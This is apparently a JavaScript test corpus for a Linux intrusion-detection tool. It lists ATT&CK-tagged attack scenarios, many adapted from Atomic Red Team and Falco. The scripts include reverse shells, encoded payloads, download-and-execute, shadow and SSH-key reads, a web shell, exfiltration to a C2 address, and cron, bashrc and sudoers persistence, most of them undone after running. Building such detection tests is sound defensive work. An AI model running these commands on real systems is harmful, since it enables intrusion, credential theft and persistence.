// The attack corpus: techniques from Atomic Red Team's Linux atomics and
// Falco's event-generator actions, written for this project and safe to run
// on a test VM (every change is undone; "C2" is a private address the
// sandbox may or may not answer: the connect is what counts). Variants no
// single command-line rule names: renamed binaries, interpreter-run
// scripts, split pipelines, encoded payloads.
//
// Each script runs as `bash <dir>/<id>.sh` from the recorder, as an
// attacker's shell would; W is a scratch dir, C2 the remote address.
export const C2 = '10.66.0.1';

/** A rule tag names a scenario's technique: the same, its parent, or one of its sub-techniques. */
export function techniqueMatches(tags, technique) {
  const t = technique.toLowerCase();
  const parent = t.split('.')[0];
  return (tags ?? []).some((tag) => {
    const x = String(tag).toLowerCase().replace(/^attack\./, '');
    return x === t || x === parent || x.startsWith(`${t}.`);
  });
}

const b64 = (s) => Buffer.from(s).toString('base64');
const hex = (s) => Buffer.from(s).toString('hex');

/** id, technique, source, variant, script */
export const SCENARIOS = [
  // --- execution: reverse shells and their disguises
  ['revshell-bash', 'T1059.004', 'atomic', 'plain', `timeout 2 bash -c 'exec 5<>/dev/tcp/${C2}/4444; bash -i <&5 >&5 2>&5' </dev/null; true`],
  ['revshell-renamed', 'T1036.003', 'atomic', 'renamed binary', `mkdir -p $W/.x; cp /bin/bash $W/.x/kworker; timeout 2 $W/.x/kworker -c 'exec 3<>/dev/tcp/${C2}/443; echo hi >&3' </dev/null`],
  ['revshell-python', 'T1059.006', 'atomic', 'interpreter', `timeout 2 python3 -c 'import socket,os;s=socket.socket();s.settimeout(1);s.connect(("${C2}",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1)' </dev/null`],
  ['revshell-perl', 'T1059', 'atomic', 'interpreter', `timeout 2 perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("${C2}")));open(STDIN,">&S");' </dev/null`],
  ['revshell-encoded', 'T1027', 'atomic', 'encoded payload', `echo ${b64(`exec 3<>/dev/tcp/${C2}/8443; echo x >&3`)} | base64 -d | timeout 2 bash`],
  ['revshell-hex', 'T1140', 'atomic', 'encoded payload', `echo ${hex(`exec 3<>/dev/tcp/${C2}/9001`)} | xxd -r -p | timeout 2 bash -s`],
  ['revshell-split', 'T1059.004', 'falco', 'split pipeline', `echo 'exec 3<>/dev/tcp/${C2}/5555' > $W/p.txt; cat $W/p.txt | timeout 2 bash`],
  ['script-dropped-python', 'T1059.006', 'atomic', 'interpreter-run script', `mkdir -p $W/.cache; printf 'import socket\\ns=socket.socket();s.settimeout(1)\\ntry:\\n  s.connect(("${C2}",8080))\\nexcept Exception: pass\\nprint(open("/etc/passwd").read()[:10])\\n' > $W/.cache/update.py; python3 $W/.cache/update.py`],
  ['script-dropped-sh', 'T1059.004', 'atomic', 'interpreter-run script', `printf '#!/bin/sh\\nid\\nuname -a\\ncat /etc/passwd\\n' > $W/run.sh; sh $W/run.sh`],
  ['web-shell', 'T1505.003', 'falco', 'server child', `printf '#!/bin/bash\necho Content-Type: text/plain\necho\nid; uname -a; cat /etc/passwd | head -3; timeout 1 bash -c "exec 3<>/dev/tcp/${C2}/4444"\n' > $WEBROOT/cgi-bin/webshell.sh; chmod +x $WEBROOT/cgi-bin/webshell.sh; curl -s -m 5 http://127.0.0.1:$WEBPORT/cgi-bin/webshell.sh >/dev/null; rm -f $WEBROOT/cgi-bin/webshell.sh`],
  // --- ingress tool transfer and drop-and-execute
  ['download-exec', 'T1105', 'atomic', 'split pipeline', `curl -s -m 2 -o $W/tool http://${C2}/tool; cp /bin/true $W/tool; chmod +x $W/tool; $W/tool`],
  ['wget-shm-exec', 'T1105', 'falco', 'exec from /dev/shm', `wget -q -T 2 -t 1 -O /dev/shm/.u http://${C2}/u; cp /bin/ls /dev/shm/.u; chmod +x /dev/shm/.u; /dev/shm/.u / >/dev/null; rm -f /dev/shm/.u`],
  ['drop-binary-tmp', 'T1204.002', 'falco', 'renamed binary', `cp /bin/uname $W/.sysupdate; $W/.sysupdate -a`],
  ['memfd-exec', 'T1620', 'falco', 'fileless', `python3 -c 'import os;fd=os.memfd_create("x");os.write(fd,open("/bin/true","rb").read());os.execv("/proc/self/fd/%d"%fd,["x"])'`],
  ['miner-renamed', 'T1496', 'atomic', 'renamed binary', `cp /bin/bash $W/xmrig; timeout 2 $W/xmrig -c 'exec 3<>/dev/tcp/${C2}/3333; echo "{\\"method\\":\\"login\\"}" >&3' </dev/null`],
  // --- credential access
  ['shadow-read', 'T1003.008', 'atomic', 'plain', `cat /etc/shadow >/dev/null`],
  ['shadow-read-python', 'T1003.008', 'falco', 'interpreter', `python3 -c 'open("/etc/shadow").read()'`],
  ['shadow-copy', 'T1003.008', 'atomic', 'split pipeline', `cp /etc/shadow $W/s.bak; rm -f $W/s.bak`],
  ['private-keys-search', 'T1552.004', 'atomic', 'plain', `find / -xdev -maxdepth 4 \\( -name 'id_rsa*' -o -name '*.pem' \\) 2>/dev/null | head -5 >/dev/null`],
  ['password-grep', 'T1552.001', 'falco', 'plain', `grep -rIl -m1 password /etc 2>/dev/null | head -3 >/dev/null`],
  ['ssh-key-read', 'T1552.004', 'atomic', 'plain', `ls /root/.ssh /home/*/.ssh >/dev/null 2>&1; cat /root/.ssh/id_* /home/*/.ssh/id_* 2>/dev/null >/dev/null; true`],
  // --- persistence
  ['cron-persist', 'T1053.003', 'atomic', 'plain', `echo '* * * * * root ${C2}' > /etc/cron.d/vigil-eval; rm -f /etc/cron.d/vigil-eval`],
  ['systemd-persist', 'T1543.002', 'atomic', 'plain', `printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/vigil-eval.service; rm -f /etc/systemd/system/vigil-eval.service`],
  ['authorized-keys', 'T1098.004', 'atomic', 'plain', `mkdir -p /root/.ssh; touch /root/.ssh/authorized_keys; cp /root/.ssh/authorized_keys $W/ak.bak; echo 'ssh-ed25519 AAAAC3Nza eval' >> /root/.ssh/authorized_keys; cp $W/ak.bak /root/.ssh/authorized_keys`],
  ['bashrc-persist', 'T1546.004', 'atomic', 'plain', `cp /root/.bashrc $W/rc.bak; echo 'curl -s ${C2} | sh' >> /root/.bashrc; cp $W/rc.bak /root/.bashrc`],
  ['rc-local', 'T1037.004', 'atomic', 'plain', `touch /etc/rc.local; cp /etc/rc.local $W/rcl.bak; echo '/tmp/x &' >> /etc/rc.local; cp $W/rcl.bak /etc/rc.local`],
  ['useradd', 'T1136.001', 'atomic', 'plain', `useradd -M -s /bin/bash vigil-eval-u 2>/dev/null; userdel vigil-eval-u 2>/dev/null; true`],
  ['write-bin-dir', 'T1036.005', 'falco', 'plain', `cp /bin/true /usr/local/bin/vigil-evalbin; /usr/local/bin/vigil-evalbin; rm -f /usr/local/bin/vigil-evalbin`],
  // --- privilege escalation and defense evasion
  ['setuid-bit', 'T1548.001', 'atomic', 'plain', `cp /bin/sh $W/sh2; chmod u+s $W/sh2; rm -f $W/sh2`],
  ['ptrace-attach', 'T1055.008', 'falco', 'interpreter', `sleep 5 & P=$!; python3 -c 'import ctypes,sys;l=ctypes.CDLL(None);l.ptrace(16,int(sys.argv[1]),0,0)' $P; kill $P`],
  ['unshare-root', 'T1611', 'atomic', 'plain', `unshare -r -m true 2>/dev/null; unshare -Ur id >/dev/null 2>&1; true`],
  ['nsenter-host', 'T1611', 'falco', 'plain', `nsenter -t 1 -m -u -n -i true 2>/dev/null; true`],
  ['history-clear', 'T1070.003', 'atomic', 'plain', `export HOME=$W/h; mkdir -p $HOME; echo x > $HOME/.bash_history; ln -sf /dev/null $HOME/.bash_history; rm -f $HOME/.bash_history`],
  ['log-wipe', 'T1070.002', 'falco', 'plain', `echo x > /var/log/vigil-eval.log; truncate -s0 /var/log/vigil-eval.log; rm -f /var/log/vigil-eval.log`],
  ['timestomp', 'T1070.006', 'atomic', 'plain', `touch $W/f; touch -d '2010-01-01 00:00' $W/f`],
  ['symlink-shadow', 'T1222', 'falco', 'plain', `ln -s /etc/shadow $W/.s; rm -f $W/.s`],
  ['ld-preload-env', 'T1574.006', 'atomic', 'plain', `printf 'void x(void){}' > $W/p.c; cc -shared -o $W/libx.so $W/p.c; LD_PRELOAD=$W/libx.so ls >/dev/null`],
  // --- discovery, collection, exfiltration, lateral movement
  ['discovery-burst', 'T1082', 'atomic', 'plain', `uname -a; cat /etc/os-release; lscpu >/dev/null; lsmod >/dev/null 2>&1; id; getent passwd >/dev/null; true`],
  ['net-discovery', 'T1016', 'atomic', 'plain', `ip a >/dev/null; ip route >/dev/null; cat /etc/resolv.conf >/dev/null; ss -tunap >/dev/null 2>&1; true`],
  ['port-scan', 'T1046', 'atomic', 'plain', `for p in 21 22 23 25 80 139 443 445 3306 3389; do timeout 1 bash -c "exec 3<>/dev/tcp/${C2}/$p" 2>/dev/null; done; true`],
  ['archive-exfil', 'T1560.001', 'atomic', 'split pipeline', `tar czf $W/.d.tgz /etc/passwd /etc/hosts 2>/dev/null; curl -s -m 2 -F f=@$W/.d.tgz http://${C2}:8080/ >/dev/null; true`],
  ['exfil-python-http', 'T1048', 'atomic', 'interpreter', `timeout 3 python3 -c 'import urllib.request as u;u.urlopen("http://${C2}:8000/x",data=b"a",timeout=1)' 2>/dev/null; true`],
  ['ssh-lateral', 'T1021.004', 'atomic', 'plain', `timeout 2 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 root@${C2} true 2>/dev/null; true`],
  ['dns-exfil-encoded', 'T1048.003', 'atomic', 'encoded payload', `for c in $(echo secret | base64); do timeout 1 python3 -c "import socket;socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'q',('${C2}',53))"; done; true`],
  ['gdb-inject', 'T1055', 'falco', 'plain', `sleep 5 & P=$!; timeout 5 gdb -q -batch -p $P -ex detach >/dev/null 2>&1; kill $P 2>/dev/null; true`],
  ['strace-sniff', 'T1056', 'atomic', 'plain', `sleep 3 & P=$!; timeout 2 strace -p $P -o /dev/null 2>/dev/null; kill $P 2>/dev/null; true`],
  // --- more execution and its disguises
  ['revshell-fifo', 'T1059.004', 'atomic', 'split pipeline', `rm -f $W/f; mkfifo $W/f; timeout 2 bash -c "exec 3<>/dev/tcp/${C2}/4242; cat $W/f >&3" & timeout 1 sh -c "echo id > $W/f"; wait; rm -f $W/f; true`],
  ['python-pty-spawn', 'T1059.006', 'falco', 'interpreter', `python3 -c 'import pty;pty.spawn(["/bin/sh","-c","id"])' </dev/null >/dev/null 2>&1; true`],
  ['python-exec-b64', 'T1027', 'atomic', 'encoded payload', `python3 -c "import base64;exec(base64.b64decode('${b64('import os;os.system("id >/dev/null")')}'))"`],
  ['find-exec-shell', 'T1059.004', 'falco', 'server child', `find $W -maxdepth 0 -exec /bin/sh -c 'id >/dev/null' \\;`],
  ['awk-shell', 'T1059.004', 'atomic', 'interpreter', `awk 'BEGIN { system("/bin/sh -c id >/dev/null") }'`],
  ['perl-exec-shell', 'T1059', 'atomic', 'interpreter', `perl -e 'exec "/bin/sh", "-c", "uname -a >/dev/null"'`],
  ['rev-obfuscated', 'T1027', 'atomic', 'encoded payload', `sh -c "$(echo 'llun/ved/ > a- emanu' | rev)"`],
  ['script-from-b64', 'T1140', 'atomic', 'encoded payload', `echo ${b64('#!/bin/sh\nid\nhostname\n')} | base64 -d > $W/.s.sh; sh $W/.s.sh >/dev/null`],
  ['masquerade-sshd', 'T1036.005', 'falco', 'renamed binary', `cp /bin/sleep $W/sshd; timeout 1 $W/sshd 5; true`],
  ['prctl-rename', 'T1036.004', 'atomic', 'interpreter', `python3 -c 'import ctypes;ctypes.CDLL(None).prctl(15,b"kworker/0:1",0,0,0)'`],
  ['comm-rename', 'T1036.004', 'atomic', 'interpreter', `python3 -c 'open("/proc/self/comm","w").write("[kthreadd]")'`],
  ['hidden-exec-dir', 'T1564.001', 'atomic', 'renamed binary', `mkdir -p /tmp/.X11-x; cp /bin/true /tmp/.X11-x/.d; /tmp/.X11-x/.d; rm -rf /tmp/.X11-x`],
  ['download-public', 'T1105', 'atomic', 'plain', `curl -s -m 2 -o $W/p http://93.184.216.34/p; true`],
  ['beacon-loop', 'T1071.001', 'atomic', 'plain', `for i in 1 2 3; do curl -s -m 1 http://${C2}:8081/beacon?id=$i >/dev/null; done; true`],
  ['proxy-env', 'T1090', 'atomic', 'plain', `http_proxy=http://${C2}:3128 https_proxy=http://${C2}:3128 curl -s -m 2 http://example.com/ >/dev/null; true`],
  ['ssh-tunnel', 'T1572', 'atomic', 'plain', `timeout 2 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 -N -D 1080 root@${C2} 2>/dev/null; true`],
  ['scp-exfil', 'T1048', 'atomic', 'plain', `timeout 2 scp -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 /etc/passwd root@${C2}:/tmp/ 2>/dev/null; true`],
  ['curl-upload', 'T1567', 'atomic', 'plain', `curl -s -m 2 -T /etc/hostname http://${C2}:8000/up >/dev/null; true`],
  ['zip-encrypt-stage', 'T1560.001', 'atomic', 'plain', `zip -q -P s3cret $W/.c.zip /etc/hostname /etc/hosts; rm -f $W/.c.zip`],
  ['openssl-encrypt', 'T1560', 'atomic', 'plain', `openssl enc -aes-256-cbc -pbkdf2 -k k -in /etc/passwd -out $W/.p.enc; rm -f $W/.p.enc`],
  ['stage-etc-copy', 'T1074.001', 'atomic', 'split pipeline', `mkdir -p $W/.stage; cp /etc/passwd /etc/group /etc/hosts $W/.stage/; tar czf $W/.stage.tgz -C $W .stage; rm -rf $W/.stage $W/.stage.tgz`],
  // --- credentials and collection
  ['proc-environ-read', 'T1003.007', 'falco', 'plain', `sleep 3 & P=$!; cat /proc/$P/environ >/dev/null; kill $P; true`],
  ['proc-mem-write', 'T1055.009', 'falco', 'interpreter', `sleep 5 & P=$!; python3 -c 'import sys;f=open("/proc/%s/mem"%sys.argv[1],"r+b");f.close()' $P; kill $P; true`],
  ['history-read', 'T1552.003', 'atomic', 'plain', `touch /root/.bash_history; cat /root/.bash_history >/dev/null`],
  ['secrets-grep-home', 'T1552.001', 'atomic', 'plain', `grep -rIl -m1 -E 'aws_secret|BEGIN .*PRIVATE KEY|password' /root 2>/dev/null | head -3 >/dev/null; true`],
  ['keyfile-hunt', 'T1552.004', 'atomic', 'plain', `find /root /home /etc -maxdepth 3 \\( -name '*.key' -o -name '*.kdbx' -o -name '*.p12' \\) 2>/dev/null | head >/dev/null; true`],
  // --- persistence and privilege
  ['profile-d', 'T1546.004', 'atomic', 'plain', `echo 'curl -s ${C2} | sh' > /etc/profile.d/vigil-eval.sh; rm -f /etc/profile.d/vigil-eval.sh`],
  ['bash-bashrc-global', 'T1546.004', 'atomic', 'plain', `cp /etc/bash.bashrc $W/bb.bak; echo '# x' >> /etc/bash.bashrc; cp $W/bb.bak /etc/bash.bashrc`],
  ['systemd-user-unit', 'T1543.002', 'atomic', 'plain', `mkdir -p /root/.config/systemd/user; printf '[Service]\\nExecStart=/tmp/x\\n' > /root/.config/systemd/user/vigil-eval.service; rm -f /root/.config/systemd/user/vigil-eval.service`],
  ['sudoers-d', 'T1548.003', 'atomic', 'plain', `D=0; [ -d /etc/sudoers.d ] || { mkdir -m 0750 /etc/sudoers.d; D=1; }; echo 'nobody ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/vigil-eval; chmod 0440 /etc/sudoers.d/vigil-eval; rm -f /etc/sudoers.d/vigil-eval; [ $D = 1 ] && rmdir /etc/sudoers.d; true`],
  ['setcap-setuid', 'T1548.001', 'atomic', 'plain', `cp /bin/true $W/t; setcap cap_setuid+ep $W/t; rm -f $W/t`],
  ['user-to-sudo', 'T1098', 'atomic', 'plain', `useradd -M vigil-eval-v 2>/dev/null; usermod -aG sudo vigil-eval-v 2>/dev/null; userdel vigil-eval-v 2>/dev/null; true`],
  ['pam-write', 'T1556.003', 'atomic', 'plain', `cp /etc/pam.d/common-auth $W/pam.bak; echo '# x' >> /etc/pam.d/common-auth; cp $W/pam.bak /etc/pam.d/common-auth`],
  ['ld-so-preload', 'T1574.006', 'atomic', 'plain', `if [ -e /etc/ld.so.preload ]; then cp /etc/ld.so.preload $W/lp.bak; fi; echo '' >> /etc/ld.so.preload; if [ -e $W/lp.bak ]; then cp $W/lp.bak /etc/ld.so.preload; else rm -f /etc/ld.so.preload; fi`],
  ['ld-library-path', 'T1574.006', 'atomic', 'plain', `mkdir -p $W/.lib; LD_LIBRARY_PATH=$W/.lib ls >/dev/null`],
  ['histfile-null', 'T1070.003', 'atomic', 'plain', `HISTFILE=/dev/null bash -c 'id >/dev/null'`],
  ['shred-evidence', 'T1070.004', 'atomic', 'plain', `echo x > $W/ev.log; shred -u $W/ev.log`],
  ['aslr-off', 'T1562.001', 'atomic', 'plain', `V=$(cat /proc/sys/kernel/randomize_va_space); echo 0 > /proc/sys/kernel/randomize_va_space; echo $V > /proc/sys/kernel/randomize_va_space`],
  ['tmpfs-mount', 'T1564', 'atomic', 'plain', `mkdir -p $W/m; mount -t tmpfs none $W/m && umount $W/m; true`],
  // --- discovery
  ['security-sw-discovery', 'T1518.001', 'atomic', 'plain', `ps aux | grep -E 'falco|auditd|osquery|tetragon|vigil' >/dev/null; ls /etc/falco /etc/osquery 2>/dev/null; true`],
  ['virt-discovery', 'T1497.001', 'atomic', 'plain', `cat /sys/class/dmi/id/product_name >/dev/null 2>&1; systemd-detect-virt >/dev/null 2>&1; grep -i hypervisor /proc/cpuinfo >/dev/null; true`],
  ['account-discovery', 'T1087.001', 'atomic', 'plain', `cat /etc/passwd >/dev/null; getent passwd >/dev/null; lastlog >/dev/null 2>&1; getent group >/dev/null; true`],
  ['net-conn-discovery', 'T1049', 'atomic', 'plain', `ss -antp >/dev/null 2>&1; cat /proc/net/tcp >/dev/null; ip neigh >/dev/null 2>&1; true`],
  ['password-policy', 'T1201', 'atomic', 'plain', `cat /etc/login.defs >/dev/null; chage -l root >/dev/null; cat /etc/pam.d/common-password >/dev/null; true`],
].map(([id, technique, source, variant, script]) => ({ id, technique, source, variant, script }));
